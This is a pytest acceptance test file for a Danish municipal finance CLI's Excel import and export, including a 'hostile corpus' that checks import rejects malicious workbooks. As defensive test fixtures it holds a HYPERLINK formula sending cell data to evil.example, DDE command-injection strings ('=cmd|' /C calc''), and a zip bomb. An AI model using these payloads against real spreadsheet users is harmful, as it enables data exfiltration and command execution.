"""Issue 4 through the command line on the demo municipality: export then import changes
nothing; one changed proposed share is exactly one change; a share total of 90 % exits 2 at
its cell with the database unchanged; hostile files are refused or neutralised with nothing
changed and no traceback; ``finans calc WORKBOOK.xlsx`` is the calculator on the same data."""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from tests.acceptance.conftest import Finans
from tests.excel.conftest import set_cells

YEAR = ("--from", "2026-01-01", "--to", "2026-12-31")
TEXT_COLUMNS = {
    "Afdelinger": ["Navn", "Kontostreng"],
    "Sager": ["Familie", "Koordinator"],
    "Indsatser": ["Indsats", "Lovgrundlag"],
    "Fordeling": ["Begrundelse"],
}


def dump(finans: Finans) -> bytes:
    assert finans("dump", "dump.json").exit_code == 0
    return Path("dump.json").read_bytes()


def export(finans: Finans, name: str = "ud.xlsx") -> Path:
    result = finans("export", *YEAR, name)
    assert result.exit_code == 0, result.output
    return Path(name)


def column_cells(path: Path, sheet: str) -> tuple[dict[str, str], list[dict[str, Any]]]:
    """Header → column letter, and the data rows as header → (cell, value)."""
    workbook = load_workbook(path, read_only=True)
    header, *rows = list(workbook[sheet].iter_rows(values_only=True))
    workbook.close()
    columns = [(i, str(name)) for i, name in enumerate(header) if name]
    letters = {name: get_column_letter(i + 1) for i, name in columns}
    data = [
        {name: (f"{letters[name]}{number}", row[i] if i < len(row) else None)
         for i, name in columns}
        for number, row in enumerate(rows, 2)
    ]
    return letters, data


def a_proposed_fixed_version_of_two(path: Path) -> list[dict[str, Any]]:
    """The rows of the first proposed ``fast`` version with exactly two departments."""
    _, rows = column_cells(path, "Fordeling")
    versions: dict[tuple[Any, Any], list[dict[str, Any]]] = {}
    for row in rows:
        versions.setdefault((row["Indsats-ID"][1], row["Gælder fra"][1]), []).append(row)
    for version in versions.values():
        first = version[0]
        if (first["Status"][1], first["Metode"][1], len(version)) == ("foreslået", "fast", 2):
            return version
    raise LookupError("no proposed fixed version of two departments in the demo")


def splits_by_key(data: dict[str, Any]) -> dict[tuple[str, str], dict[str, Any]]:
    return {
        (iv["id"], split["effective_from"]): split
        for iv in data["interventions"]
        for split in iv["splits"]
    }


def without_splits(data: dict[str, Any]) -> dict[str, Any]:
    return {**data, "interventions": [{**iv, "splits": None} for iv in data["interventions"]]}


def test_an_unchanged_export_imports_with_no_changes(finans: Finans) -> None:
    path = export(finans)
    before = dump(finans)
    result = finans("import", str(path), "--apply")
    assert result.exit_code == 0, result.output
    assert re.findall(r"([0-9]+) nye, ([0-9]+) ændrede", result.output) == [("0", "0")] * 5
    assert result.output.strip().endswith("Ingen ændringer.")
    assert dump(finans) == before


def test_one_changed_proposed_share_is_exactly_that_change_after_apply(finans: Finans) -> None:
    path = export(finans)
    version = a_proposed_fixed_version_of_two(path)
    (first, a), (second, b) = (row["Andel %"] for row in version)
    key = (version[0]["Indsats-ID"][1], version[0]["Gælder fra"][1].date().isoformat())
    set_cells(path, {f"Fordeling!{first}": a + 10, f"Fordeling!{second}": b - 10})
    before = json.loads(dump(finans))
    dry = finans("import", str(path))
    assert dry.exit_code == 0, dry.output
    assert "Fordeling: 0 nye, 1 ændrede" in dry.output
    assert f"ændret: {key[0]}/{key[1]}" in dry.output
    assert json.loads(dump(finans)) == before
    applied = finans("import", str(path), "--apply")
    assert applied.exit_code == 0 and "Ændringerne er gemt (1 poster)." in applied.output
    after = json.loads(dump(finans))
    assert without_splits(after) == without_splits(before)
    old, new = splits_by_key(before), splits_by_key(after)
    assert old.keys() == new.keys()
    assert [k for k in old if old[k] != new[k]] == [key]
    codes = [row["Afdeling"][1] for row in version]
    assert new[key]["status"] == "proposed"
    assert {code: int(share) for code, share in new[key]["shares"].items()} == {
        codes[0]: a + 10, codes[1]: b - 10
    }
    assert finans("import", str(path)).output.strip().endswith("Ingen ændringer.")


def test_a_share_total_of_90_exits_2_names_the_cell_and_changes_nothing(finans: Finans) -> None:
    path = export(finans)
    version = a_proposed_fixed_version_of_two(path)
    cell, share = version[0]["Andel %"]
    set_cells(path, {f"Fordeling!{cell}": share - 10})
    before = dump(finans)
    result = finans("import", str(path), "--apply")
    assert result.exit_code == 2
    assert f"Fordeling!{cell}: Andelene for indsats {version[0]['Indsats-ID'][1]} fra " in (
        result.output
    )
    assert "summerer til 90 %, ikke 100 %" in result.output
    assert "Intet er gemt" in result.output
    assert dump(finans) == before


# --- the hostile corpus -------------------------------------------------------------------------


def formulas_in_every_text_column(path: Path) -> Path:
    cells = {}
    for sheet, headers in TEXT_COLUMNS.items():
        letters, _ = column_cells(path, sheet)
        cells.update({f"{sheet}!{letters[header]}2": "=1+1" for header in headers})
    return set_cells(path, cells)


def hyperlink_in_a_family_label(path: Path) -> Path:
    letters, _ = column_cells(path, "Sager")
    return set_cells(path, {f"Sager!{letters['Familie']}2":
                            '=HYPERLINK("http://evil.example/?"&A2,"Klik")'})


def rewrite_part(path: Path, part: str, change: Callable[[str], str]) -> Path:
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts[part] = change(parts[part].decode()).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def a_control_character_in_a_cell(path: Path) -> Path:
    def inject(xml: str) -> str:
        assert "<t>Familie " in xml
        return xml.replace("<t>Familie ", "<t>Fa\x01mi\x1blie ", 1)

    return rewrite_part(path, "xl/worksheets/sheet2.xml", inject)


def a_zip_bomb(path: Path) -> Path:
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/nul.bin", b"\0" * (30 * 1024 * 1024))
    return path


def an_xlsm(path: Path) -> Path:
    return path.rename(path.with_suffix(".xlsm"))


def a_csv_renamed_xlsx(path: Path) -> Path:
    path.write_text("Kode;Navn\n=cmd|' /C calc'!A0;x\n", encoding="utf-8")
    return path


REFUSED: dict[str, tuple[Callable[[Path], Path], str]] = {
    "formulas in every text column": (formulas_in_every_text_column, "Formler er ikke tilladt"),
    "a HYPERLINK formula in a family label": (hyperlink_in_a_family_label, "Sager!B2: Formler"),
    "a control character in a cell": (a_control_character_in_a_cell, "kan ikke læses"),
    "a zip bomb": (a_zip_bomb, "ligner ikke en almindelig projektmappe"),
    "an xlsm": (an_xlsm, "makroer"),
    "a csv renamed xlsx": (a_csv_renamed_xlsx, "ikke en Excel-projektmappe"),
}


@pytest.mark.parametrize("kind", list(REFUSED))
def test_each_hostile_file_is_refused_in_danish_with_nothing_changed(
    finans: Finans, kind: str
) -> None:
    make, words = REFUSED[kind]
    path = make(export(finans))
    before = dump(finans)
    result = finans("import", str(path), "--apply")
    assert result.exit_code == 2
    assert words in result.output and "Intet er gemt" in result.output
    assert "Traceback" not in result.output
    assert dump(finans) == before


def test_formulas_in_every_text_column_are_each_named_by_cell(finans: Finans) -> None:
    path = formulas_in_every_text_column(export(finans))
    result = finans("import", str(path))
    named = re.findall(r"^(\w+![A-Z]+2): Formler er ikke tilladt", result.output, re.M)
    assert len(named) == sum(len(headers) for headers in TEXT_COLUMNS.values())


def test_200000_empty_formatted_rows_are_ignored(finans: Finans) -> None:
    path = export(finans)

    def pad(xml: str) -> str:
        last = max(int(n) for n in re.findall(r'<row r="([0-9]+)"', xml))
        empty = "".join(f'<row r="{n}"><c r="A{n}" s="1"/><c r="G{n}" s="1"/></row>'
                        for n in range(last + 1, last + 200_001))
        return xml.replace("</sheetData>", empty + "</sheetData>")

    rewrite_part(path, "xl/worksheets/sheet4.xml", pad)
    before = dump(finans)
    result = finans("import", str(path), "--apply")
    assert result.exit_code == 0, result.output
    assert result.output.strip().endswith("Ingen ændringer.")
    assert dump(finans) == before


def test_formula_like_text_is_kept_as_text_and_exported_as_text(finans: Finans) -> None:
    path = export(finans)
    letters, rows = column_cells(path, "Sager")
    hostile = '=cmd|"/c calc"!A1'
    workbook = load_workbook(path)
    cell = workbook["Sager"][f"{letters['Familie']}2"]
    cell.value, cell.data_type = hostile, "s"
    workbook.save(path)
    result = finans("import", str(path), "--apply")
    assert result.exit_code == 0, result.output
    assert f"ændret: {rows[0]['Sagsnr'][1]} (familie)" in result.output
    again = export(finans, "igen.xlsx")
    cell = load_workbook(again)["Sager"][f"{letters['Familie']}2"]
    assert (cell.value, cell.data_type) == (hostile, "s")


def test_calc_on_the_exported_workbook_is_calc_on_the_dump(finans: Finans) -> None:
    path = export(finans)
    dump(finans)
    from_workbook = finans("calc", str(path), *YEAR)
    from_dump = finans("calc", "dump.json", *YEAR)
    assert from_workbook.exit_code == from_dump.exit_code == 0
    assert json.loads(from_workbook.stdout) == json.loads(from_dump.stdout)
    assert json.loads(from_dump.stdout)["total"] != "0.00"
